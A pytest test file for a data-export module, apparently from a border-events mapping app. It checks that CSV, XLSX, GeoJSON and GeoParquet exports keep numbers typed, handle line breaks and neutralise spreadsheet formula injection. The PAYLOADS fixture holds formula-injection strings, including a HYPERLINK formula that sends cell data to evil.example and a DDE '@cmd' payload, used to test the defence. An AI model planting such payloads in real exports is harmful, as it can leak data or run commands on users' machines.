"""Data exports (CSV, XLSX, GeoJSON): formula injection, numeric columns, line breaks, counts."""

from __future__ import annotations

import csv
import json

import openpyxl
import pandas as pd
import pytest
from test_export_standins import SAMPLE_ROWS, VIEW_2023, view_data

from render.exports.data import export_data, xlsx_text
from render.markup import neutralise, restore

PAYLOADS = {
    "notes": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "source_title": "+SUM(1,2)",
    "location_text": "-2+3",
    "count_text": "@cmd|' /C calc'!A0",
    "evidence_quote": "\tleading tab",
    "source_org": "\rcarriage return org",
}
MULTILINE = 'first line\nsecond line\r\nthird, with a comma and "quotes"'


@pytest.fixture(scope="module")
def data():
    rows = [dict(row) for row in SAMPLE_ROWS]
    rows[0].update(PAYLOADS)
    rows[2]["notes"] = MULTILINE
    rows[3]["place_names"] = "\nLF first"
    return view_data(rows, VIEW_2023)


@pytest.fixture(scope="module")
def files(tmp_path_factory, data):
    folder = tmp_path_factory.mktemp("data")
    formats = ("csv", "xlsx", "geojson", "parquet")
    return {fmt: export_data(data, folder / f"events.{fmt}", fmt=fmt) for fmt in formats}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
        ("\rx", "'\rx"), ("\nx", "'\nx"), ("\0x", "'\0x"), ("plain", "plain"), ("", ""),
        ("a=b", "a=b"), (" =1", "' =1"), ("\uff1d1", "'\uff1d1"), ("\u200b+1", "'\u200b+1"),
        ("'=1+1", "''=1+1"), ("'plain", "''plain"), ("it's", "it's"), (None, None), (3, 3),
    ],
)  # fmt: skip
def test_neutralise(text, expected):
    assert neutralise(text) == expected
    assert restore(neutralise(text)) == text


class TestCsv:
    def read(self, path):
        with open(path, encoding="utf-8-sig", newline="") as handle:
            return list(csv.DictReader(handle))

    def test_one_row_per_record_even_with_line_breaks(self, files, data):
        rows = self.read(files["csv"])
        assert len(rows) == len(data.events)
        assert pd.read_csv(files["csv"], dtype=str, keep_default_na=False).shape[0] == len(rows)
        tumen = next(r for r in rows if r["event_id"] == "tumen-2024")
        assert tumen["notes"] == MULTILINE

    def test_formula_payloads_are_neutralised(self, files):
        first = next(r for r in self.read(files["csv"]) if r["event_id"] == "dandong-2023")
        for column, payload in PAYLOADS.items():
            assert first[column] == "'" + payload
        hyesan = next(r for r in self.read(files["csv"]) if r["event_id"] == "hyesan-2023")
        assert hyesan["place_names"] == "'\nLF first"
        for row in self.read(files["csv"]):
            for column, value in row.items():
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\0")), column

    def test_numbers_stay_numbers(self, files):
        rows = {r["event_id"]: r for r in self.read(files["csv"])}
        assert rows["dandong-2023"]["count_best"] == "500"
        assert rows["dandong-2023"]["count_high"] == ""
        assert float(rows["dandong-2023"]["lat"]) == pytest.approx(40.12)
        assert rows["changbai-2023"]["count_low"] == "50"
        assert rows["changbai-2023"]["count_high"] == "60"
        assert rows["hyesan-2023"]["date_start"] == "2023-08-01"
        assert rows["hyesan-2023"]["date_end"] == "2023-08-31"

    def test_sources_and_claims_are_included(self, files):
        rows = self.read(files["csv"])
        claim = next(r for r in rows if r["event_id"] == "dandong-2023-tj")
        assert claim["same_event_as"] == "dandong-2023"
        assert claim["source_org"] == "Transitional Justice Working Group"
        assert claim["source_url"] == "https://tjwg.org/b"

    def test_utf8_with_bom_and_crlf(self, files):
        raw = files["csv"].read_bytes()
        assert raw.startswith(b"\xef\xbb\xbfevent_id,")
        assert b"\r\n" in raw


class TestXlsx:
    def test_no_formula_cells_and_payloads_kept_as_text(self, files):
        book = openpyxl.load_workbook(files["xlsx"])
        assert book.sheetnames == ["events", "sources", "by_year", "view"]
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        assert all(cell.data_type != "f" for cell in cells)
        sheet = book["events"]
        header = [c.value for c in sheet[1]]
        first = {header[i]: c for i, c in enumerate(sheet[2])}
        assert first["event_id"].value == "dandong-2023"
        for column, payload in PAYLOADS.items():
            assert first[column].value == xlsx_text("'" + payload)  # the CSV's guard, escaped
            assert first[column].data_type == "s"
        assert first["source_org"].value == "'_x000D_carriage return org"  # OOXML escape of CR
        assert first["place_names"].value == "Dandong" and first["place_names"].data_type == "s"

    def test_numeric_columns_are_numeric(self, files, data):
        sheet = openpyxl.load_workbook(files["xlsx"])["events"]
        header = [c.value for c in sheet[1]]
        first = {header[i]: c for i, c in enumerate(sheet[2])}
        assert first["count_best"].value == 500 and first["count_best"].data_type == "n"
        assert first["count_high"].value is None
        assert first["lat"].value == pytest.approx(40.12) and first["lat"].data_type == "n"
        assert first["shared"].data_type == "b"
        assert sheet.max_row == len(data.events) + 1

    def test_by_year_sheet_adds_up_to_the_view(self, files, data):
        sheet = openpyxl.load_workbook(files["xlsx"])["by_year"]
        header, *records = list(sheet.iter_rows(values_only=True))
        rows = [dict(zip(header, record, strict=True)) for record in records]
        assert header[:7] == (
            "year", "province", "events", "shared_events", "people_low", "people_best",
            "people_high",
        )  # fmt: skip
        total = next(r for r in rows if (r["year"], r["province"]) == ("all", "all"))
        assert total["events"] == data.summary.events > 0
        assert total["people_best"] == data.summary.people.best
        assert total["people_high"] == data.summary.people.high
        assert total["year_label"] == "All years"
        assert total["province_name"] == "All (each event once)"
        years = [r for r in rows if r["province"] == "all" and r["year"] != "all"]
        assert sum(r["events"] for r in years) == total["events"]
        assert sum(r["people_low"] for r in years) == total["people_low"]

    def test_sources_and_view_sheets(self, files, data):
        book = openpyxl.load_workbook(files["xlsx"])
        sources = [row for row in book["sources"].iter_rows(values_only=True)]
        assert sources[0] == ("organisation", "title", "published", "url", "events")
        assert any(row[0] == "Transitional Justice Working Group" for row in sources)
        view = dict(book["view"].iter_rows(min_row=2, values_only=True))
        assert view["query"] == data.view.query_string()
        assert view["start"] == "2023-01-01"


class TestGeojson:
    def test_valid_feature_collection_with_the_summary_count(self, files, data):
        doc = json.loads(files["geojson"].read_text(encoding="utf-8"))
        assert doc["type"] == "FeatureCollection"
        features = doc["features"]
        assert len(features) == len(data.events)
        references = [f for f in features if f["properties"]["same_event_as"] == ""]
        assert len(references) == data.summary.events
        assert doc["border_events_map"]["summary"]["events"] == len(references)
        for feature in features:
            assert feature["type"] == "Feature"
            geometry = feature["geometry"]
            if geometry is not None:
                lon, lat = geometry["coordinates"]
                assert geometry["type"] == "Point" and -180 <= lon <= 180 and -90 <= lat <= 90

    def test_properties_keep_types_and_text(self, files):
        doc = json.loads(files["geojson"].read_text(encoding="utf-8"))
        by_id = {f["properties"]["event_id"]: f for f in doc["features"]}
        dandong = by_id["dandong-2023"]
        assert dandong["properties"]["count_best"] == 500
        assert dandong["properties"]["count_high"] is None
        assert dandong["properties"]["notes"] == PAYLOADS["notes"]
        assert dandong["geometry"]["coordinates"] == [124.39, 40.12]
        assert by_id["jilin-liaoning-2023"]["geometry"] is None
        assert by_id["jilin-liaoning-2023"]["properties"]["shared"] is True


class TestGeoParquet:
    def test_points_columns_and_the_view_in_a_geoparquet_file(self, files, data):
        import geopandas as gpd
        import pyarrow.parquet as pq

        frame = gpd.read_parquet(files["parquet"])
        assert frame.crs.to_epsg() == 4326
        assert len(frame) == len(data.events)
        by_id = frame.set_index("event_id")
        assert (
            by_id.loc["dandong-2023", "geometry"].x,
            by_id.loc["dandong-2023", "geometry"].y,
        ) == (
            124.39,
            40.12,
        )
        assert by_id.loc["jilin-liaoning-2023", "geometry"] is None
        assert by_id.loc["dandong-2023", "count_best"] == 500
        assert by_id.loc["dandong-2023", "notes"] == PAYLOADS["notes"]  # data, not a formula
        about = json.loads(pq.read_schema(files["parquet"]).metadata[b"border_events_map"])
        assert about["summary"]["events"] == data.summary.events
        assert about["view"] == data.view.query_string()

    def test_reads_back_through_the_app_reader(self, files, data):
        from geo.validate import load_events

        result, as_csv = load_events(files["parquet"]), load_events(files["csv"])
        assert result.rows == as_csv.rows == len(data.events)
        assert result.events["event_id"].tolist() == as_csv.events["event_id"].tolist()
        assert result.events["date_start"].tolist() == as_csv.events["date_start"].tolist()
        # Parquet numbers records from 1, CSV from 2 (after its header); the CSV's cells are
        # formula-neutralised ("'\nLF first"), the Parquet's are the data as it is.
        assert [(p.row - 1, p.column, p.severity) for p in result.problems if p.row] == [
            (p.row - 2, p.column, p.severity) for p in as_csv.problems if p.row
        ]


@pytest.mark.parametrize(
    ("text", "expected"),
    [("a\rb", "a_x000D_b"), ("\x00", "_x0000_"), ("tab\tlf\n", "tab\tlf\n"),
     ("_x000D_", "_x005F_x000D_"), ("한국 中国", "한국 中国")],
)  # fmt: skip
def test_xlsx_text_escapes(text, expected):
    assert xlsx_text(text) == expected


def test_unknown_format_is_refused(tmp_path, data):
    with pytest.raises(ValueError, match="format 'ods'"):
        export_data(data, tmp_path / "x.ods", fmt="ods")


def test_csv_reads_back_through_the_app_reader(files, data):
    from geo.read import read_table

    table = read_table(files["csv"].read_bytes(), filename="events.csv")
    assert len(table.frame) == len(data.events)
    notes = dict(zip(table.frame["event_id"], table.frame["notes"], strict=True))
    assert notes["tumen-2024"] == MULTILINE
